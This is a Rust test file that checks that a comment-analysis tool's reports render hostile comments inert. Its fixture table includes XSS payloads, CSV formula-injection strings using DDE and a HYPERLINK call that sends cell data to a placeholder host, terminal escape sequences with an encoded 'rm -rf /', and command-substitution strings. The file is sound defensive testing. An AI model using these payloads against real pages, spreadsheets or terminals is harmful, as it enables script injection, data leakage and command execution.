//! Comments that attack the report: each attack of tests/fixtures/attacks.jsonl in each format is inert, and shown for
//! what it is.

#![allow(clippy::unwrap_used, clippy::string_slice, reason = "a test fails by panicking")]

use std::collections::BTreeMap;
use std::process::{Command, Stdio};

use comity::report::inert::acts;
use comity::report::table::TABLES;
use serde_json::Value;

const ATTACKS: &str = "tests/fixtures/attacks.jsonl";

/// The attacks by the ids of their comments, and what of each must still be seen where its text is shown in full.
const SHOWN: &[(&str, &str)] = &[
    ("script-tag", "<script>alert('script-tag')</script>"),
    ("event-handler", "<img src=x onerror=alert('event-handler')>"),
    ("javascript-link", "My address is a script."),
    ("data-link", "My address is data."),
    ("attribute-breakout", "My address leaves its attribute."),
    ("end-of-script", "</script><script>alert('end-of-script')</script><!-- <script> -->"),
    ("css-breakout", "</style></title></textarea><style>*{display:none}</style>"),
    ("iframe-base-meta", "<iframe src=//e.example/iframe></iframe><base href=//e.example/>"),
    ("entities", "&lt;script&gt;alert('entities')&lt;/script&gt; &#x3c;b&#x3e; &amp;"),
    ("formula-hyperlink", "=HYPERLINK(\"http://e.example/?\"&A1,\"formula-hyperlink\")"),
    ("formula-dde", "=cmd|' /C calc'!A0 formula-dde"),
    ("formula-plus", "+1+1+cmd|' /C calc'!A0 formula-plus"),
    ("formula-minus", "-2+3+cmd|' /C calc'!A0 formula-minus"),
    ("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0 formula-at"),
    ("formula-tab", "=1+1 formula-tab"),
    ("formula-return", "=1+1 formula-return"),
    ("formula-newline", "=1+1 formula-newline"),
    ("formula-blanks", "=1+1 formula-blanks"),
    ("formula-full-width", "\u{ff1d}1+1 formula-full-width"),
    ("formula-zero-width", "=1+1 formula-zero-width"),
    ("formula-apostrophe", "'=1+1 formula-apostrophe"),
    ("number", "-12.5"),
    ("cell-breakout", "cell-breakout\",\"=1+1\"\n\"=2+2\",next;\"=3+3\""),
    ("ansi-csi", "[31mansi-csi"),
    ("osc-8-link", "]8;;http://e.example/"),
    ("osc-52-clipboard", "]52;c;cm0gLXJmIC8="),
    ("c1-controls", "2J"),
    ("backspaces", "backspaces"),
    ("bidi-override", "gnp.exe"),
    ("bidi-isolate", "bidi-isolate"),
    ("zero-width-flood", "zero-width-flood"),
    ("tag-characters", "tag-characters"),
    ("combining-flood", "combining-flood"),
    ("huge-word", "huge-word-WWWW"),
    ("newline-tricks", "## Forged heading"),
    ("markdown-link", "[markdown-link](javascript:alert(1)) [x][y]"),
    ("markdown-image", "![markdown-image](http://e.example/pixel.png)"),
    ("markdown-html", "<details open ontoggle=alert(1)><a href=//e.example/>x</a>"),
    ("markdown-autolink", "<http://e.example/> www.e.example"),
    ("markdown-mention", "@everyone #1 owner/name#2 :tada:"),
    ("markdown-code", "`tick` **bold** __bold__ ~~gone~~ $x$"),
    ("json-tricks", "\\u0022},\"injected\":true,{\\\""),
    ("format-tricks", "{0} %s %n ${HOME} {{x}} $(id) `id`"),
    ("hostile-author", "My name is hostile."),
    ("formula-author", "My name is a formula."),
    ("hostile-parent", "I answer the hostile id."),
    ("__proto__", "My id is a name of the language."),
    ("hostile-thread", "My thread is hostile."),
];

/// A format: its name, the command that writes it, and what must hold of what it writes.
type Format = (&'static str, &'static [&'static str], fn(&str) -> Vec<String>);

const FORMATS: &[Format] = &[
    ("text", &["analyze", ATTACKS, "--top", "100"], on_a_terminal),
    ("text in colour", &["analyze", ATTACKS, "--top", "100", "--color", "always", "--tree"], in_colour),
    ("tree", &["analyze", ATTACKS, "--tree"], on_a_terminal),
    ("lines", &["analyze", ATTACKS, "--show", "lines"], on_a_terminal),
    ("try", &["lexicon", "try", "idiot*", "--on", ATTACKS], on_a_terminal),
    ("queue", &["queue", ATTACKS, "--limit", "100"], on_a_terminal),
    ("queue in markdown", &["queue", ATTACKS, "--limit", "100", "--format", "markdown"], in_markdown),
    ("queue in json", &["queue", ATTACKS, "--limit", "100", "--format", "json"], in_json),
    ("markdown", &["analyze", ATTACKS, "--top", "100", "--format", "markdown"], in_markdown),
    ("json", &["analyze", ATTACKS, "--top", "100", "--format", "json"], in_json),
    ("jsonl", &["analyze", ATTACKS, "--format", "jsonl"], in_json),
    ("html", &["analyze", ATTACKS, "--format", "html"], in_html),
    ("rows", &["convert", ATTACKS], in_json),
];

fn comity(arguments: &[&str]) -> String {
    let output = Command::new(env!("CARGO_BIN_EXE_comity"))
        .args(arguments)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let told = String::from_utf8(output.stderr).unwrap();
    assert_eq!(output.status.code(), Some(0), "{arguments:?}: {told}");
    let wrong = on_a_terminal(&told);
    assert!(wrong.is_empty(), "{arguments:?} on standard error: {wrong:?}");
    String::from_utf8(output.stdout).unwrap()
}

fn comments() -> Vec<Value> {
    let rows = std::fs::read_to_string(format!("{}/{ATTACKS}", env!("CARGO_MANIFEST_DIR"))).unwrap();
    rows.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

#[test]
fn every_attack_is_inert_in_every_format() {
    for (name, arguments, wrong) in FORMATS {
        let wrong = wrong(&comity(arguments));
        assert!(wrong.is_empty(), "{name}: {}", wrong.join("\n"));
    }
}

/// Nothing but line ends moves the cursor, colours, hides or turns anything.
fn on_a_terminal(text: &str) -> Vec<String> {
    let acting = |(at, line): (usize, &str)| {
        let found = line.chars().find(|c| acts(*c))?;
        Some(format!("line {}: {found:?} in {:?}", at + 1, line.chars().take(100).collect::<String>()))
    };
    text.split('\n').enumerate().filter_map(acting).collect()
}

/// With comity's own colours taken out, nothing acts.
fn in_colour(text: &str) -> Vec<String> {
    let mut bare = text.to_owned();
    for own in ["\u{1b}[0m", "\u{1b}[1m", "\u{1b}[2m", "\u{1b}[7m", "\u{1b}[27m"] {
        bare = bare.replace(own, "");
    }
    let mut wrong = on_a_terminal(&bare);
    if bare == text {
        wrong.push("there is no colour".to_owned());
    }
    wrong
}

/// No link, image or HTML comes from a comment; links to sources have addresses of the web.
fn in_markdown(text: &str) -> Vec<String> {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    let mut wrong = on_a_terminal(text);
    for event in Parser::new_ext(text, Options::all()) {
        match event {
            Event::Html(html) | Event::InlineHtml(html) => wrong.push(format!("HTML: {html}")),
            Event::Start(Tag::Image { dest_url, .. }) => wrong.push(format!("image: {dest_url}")),
            Event::Start(Tag::Link { dest_url, .. }) if !is_of_the_web(&dest_url) => {
                wrong.push(format!("link: {dest_url}"));
            }
            Event::FootnoteReference(name) => wrong.push(format!("footnote: {name}")),
            Event::InlineMath(math) | Event::DisplayMath(math) => wrong.push(format!("formula: {math}")),
            _ => {}
        }
    }
    // What some readers link by themselves.
    for bare in ["http://", "www.e.example", "@everyone", "mail@e.example"] {
        if text.contains(bare) {
            wrong.push(format!("{bare} stands bare"));
        }
    }
    if text.lines().any(|line| line.starts_with("## Forged") || line.starts_with("1. forged")) {
        wrong.push("a comment forged a heading or an item".to_owned());
    }
    wrong
}

fn is_of_the_web(address: &str) -> bool {
    (address.starts_with("https://") || address.starts_with("http://")) && !address.contains(['"', '\'', '<', ' '])
}

/// Each line is JSON, and nothing in it acts before it is parsed.
fn in_json(text: &str) -> Vec<String> {
    let mut wrong = on_a_terminal(text);
    for line in text.lines() {
        match serde_json::from_str::<Value>(line) {
            Ok(value) if value.get("injected").is_none() => {}
            Ok(_) => wrong.push("a comment put in a key".to_owned()),
            Err(error) => wrong.push(error.to_string()),
        }
    }
    wrong
}

/// The same elements that can act as in a report on two threads of peaceful comments, no handlers, and addresses of the web only.
fn in_html(text: &str) -> Vec<String> {
    let mut wrong = Vec::new();
    let (page, peaceful) = (
        acting(text),
        acting(&comity(&["analyze", "tests/fixtures/thread.jsonl", "tests/fixtures/page.txt", "--format", "html"])),
    );
    if page != peaceful {
        wrong.push(format!("elements that act: {page:?}, in peace {peaceful:?}"));
    }
    for element in scraper::Html::parse_document(text).select(&scraper::Selector::parse("*").unwrap()) {
        for (name, value) in element.value().attrs() {
            let leads = ["href", "src", "action", "formaction", "srcdoc", "xlink:href"].contains(&name);
            let is_safe = is_of_the_web(value) || value.starts_with('#') || value.starts_with("data:image/");
            if name.starts_with("on") || (leads && !is_safe) {
                wrong.push(format!("<{} {name}={value:?}>", element.value().name()));
            }
        }
    }
    let controls = text.chars().find(|c| c.is_control() && !['\n', '\t'].contains(c));
    wrong.extend(controls.map(|c| format!("{c:?} stands in the page")));
    wrong
}

/// How often each element occurs that loads or runs something.
fn acting(page: &str) -> BTreeMap<String, usize> {
    let document = scraper::Html::parse_document(page);
    let all = "script, style, iframe, base, object, embed, link, meta, form, frame, img, video, audio, svg";
    let mut counts = BTreeMap::new();
    for element in document.select(&scraper::Selector::parse(all).unwrap()) {
        // Charts are drawn as SVG, as many as there are figures.
        if element.value().name() != "svg" {
            *counts.entry(element.value().name().to_owned()).or_default() += 1;
        }
    }
    counts
}

#[test]
fn no_cell_of_a_table_is_a_formula() {
    for table in TABLES {
        let text = comity(&["analyze", ATTACKS, "--format", "csv", "--table", table.name, "--quiet"]);
        let acting = text.chars().find(|c| acts(*c) && !['\n', '\t'].contains(c));
        assert_eq!(acting, None, "{}", table.name);
        let mut reader = csv::ReaderBuilder::new().flexible(false).from_reader(text.as_bytes());
        let columns = reader.headers().unwrap().len();
        for row in reader.records() {
            let row = row.unwrap();
            assert_eq!(row.len(), columns, "{}: {row:?}", table.name);
            for cell in row.iter() {
                let bare = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{fffd}');
                let begins = bare.starts_with(['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}']);
                assert!(!begins || cell.parse::<f64>().is_ok(), "{}: {cell:?}", table.name);
            }
        }
    }
}

#[test]
fn every_attack_is_shown_for_what_it_is() {
    let rows: Vec<Value> = comity(&["analyze", ATTACKS, "--format", "jsonl"])
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let table = comity(&["analyze", ATTACKS, "--format", "csv", "--quiet"]);
    let mut table = csv::Reader::from_reader(table.as_bytes());
    let header = table.headers().unwrap().clone();
    let at = |name: &str| header.iter().position(|column| column == name).unwrap();
    let cells: Vec<csv::StringRecord> = table.records().map(Result::unwrap).collect();
    let (text, markdown) = (
        comity(&["analyze", ATTACKS, "--top", "100"]),
        comity(&["analyze", ATTACKS, "--top", "100", "--format", "markdown"]),
    );
    for (id, shown) in SHOWN {
        let row = rows.iter().find(|row| row["id"] == *id).unwrap_or_else(|| panic!("{id} is not among the rows"));
        assert!(row["text"].as_str().unwrap().contains(shown), "{id} in jsonl: {}", row["text"]);
        let cell = cells.iter().find(|row| &row[at("id")] == *id).unwrap_or_else(|| panic!("{id} is not in the table"));
        assert!(cell[at("text")].contains(shown), "{id} in csv: {:?}", &cell[at("text")]);
        // A harmless number is none of the comments to look at first.
        if *id != "number" {
            assert!(text.contains(id), "{id} in text");
            assert!(markdown.contains(&id.replace('-', "\\-").replace('_', "\\_")), "{id} in markdown");
        }
    }
}

#[test]
fn rows_give_back_what_was_attacked_with() {
    let rows: Vec<Value> = comity(&["analyze", ATTACKS, "--format", "jsonl"])
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let sent = comments();
    assert_eq!(rows.len(), sent.len());
    for comment in &sent {
        let row = rows.iter().find(|row| row["id"] == comment["id"]).unwrap_or_else(|| panic!("{}", comment["id"]));
        for key in ["thread", "author", "url", "text"] {
            assert_eq!(row[key], comment[key], "{}: `{key}`", comment["id"]);
        }
    }
}

#[test]
fn numbers_stay_numbers() {
    let table = comity(&["analyze", ATTACKS, "--format", "csv", "--quiet"]);
    let mut table = csv::Reader::from_reader(table.as_bytes());
    let header = table.headers().unwrap().clone();
    let at = |name: &str| header.iter().position(|column| column == name).unwrap();
    let number = table.records().map(Result::unwrap).find(|row| &row[at("id")] == "number").unwrap();
    assert_eq!(&number[at("text")], "-12.5");
    assert_eq!(&number[at("incivility")], "0.0");
}

#[test]
fn explaining_an_attack_is_safe() {
    let terminal = ["ansi-csi", "osc-8-link", "osc-52-clipboard", "c1-controls", "bidi-override", "zero-width-flood"];
    for comment in comments().iter().filter(|comment| terminal.contains(&comment["id"].as_str().unwrap())) {
        let text = comment["text"].as_str().unwrap();
        let wrong = on_a_terminal(&comity(&["explain", "--", text]));
        assert!(wrong.is_empty(), "{}: {wrong:?}", comment["id"]);
    }
}
